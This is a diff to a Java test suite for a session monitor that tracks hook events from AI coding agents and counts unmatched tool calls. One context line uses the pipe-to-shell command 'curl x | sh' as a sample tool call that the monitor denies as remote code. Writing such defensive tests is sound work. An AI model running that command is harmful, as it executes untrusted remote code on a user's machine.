@@ -97,6 +97,50 @@ class SessionWatchTest {
   }
 
   @Test
+  void aHookThatIsRegisteredTwiceRaisesNoAlarm() {
+    for (String host : List.of("claude-code", "gemini-cli")) {
+      boolean ids = host.equals("claude-code");
+      String id = ids ? "toolu_1" : null;
+      ask(host, "SessionStart", "a", null, "", null);
+      for (String event :
+          List.of(ids ? "PreToolUse" : "BeforeTool", ids ? "PostToolUse" : "AfterTool")) {
+        ask(host, event, "a", id, "ls", null);
+        ask(host, event, "a", id, "ls", null);
+      }
+    }
+    assertThat(unseen).isEmpty();
+
+    claude("PostToolUse", "toolu_2", "a");
+    claude("PostToolUse", "toolu_2", "a");
+
+    assertThat(unseen).hasSize(1);
+  }
+
+  @Test
+  void equalCallsAtOnceAreCounted() {
+    gemini("SessionStart", "");
+    gemini("BeforeTool", "ls");
+    gemini("BeforeTool", "ls");
+    gemini("AfterTool", "ls");
+    gemini("AfterTool", "ls");
+    assertThat(unseen).isEmpty();
+
+    gemini("AfterTool", "ls");
+
+    assertThat(unseen).hasSize(1);
+  }
+
+  @Test
+  void whatNeverEndedIsForgottenAtTheNextPrompt() {
+    gemini("SessionStart", "");
+    gemini("BeforeTool", "ls");
+    gemini("BeforeAgent", "");
+    gemini("AfterTool", "ls");
+
+    assertThat(unseen).hasSize(1);
+  }
+
+  @Test
   void aRefusedCallDoesNotStandForAnother() {
     gemini("SessionStart", "");
     ask("gemini-cli", "BeforeTool", "a", null, "curl x | sh", Verdict.deny("no", "remote-code"));
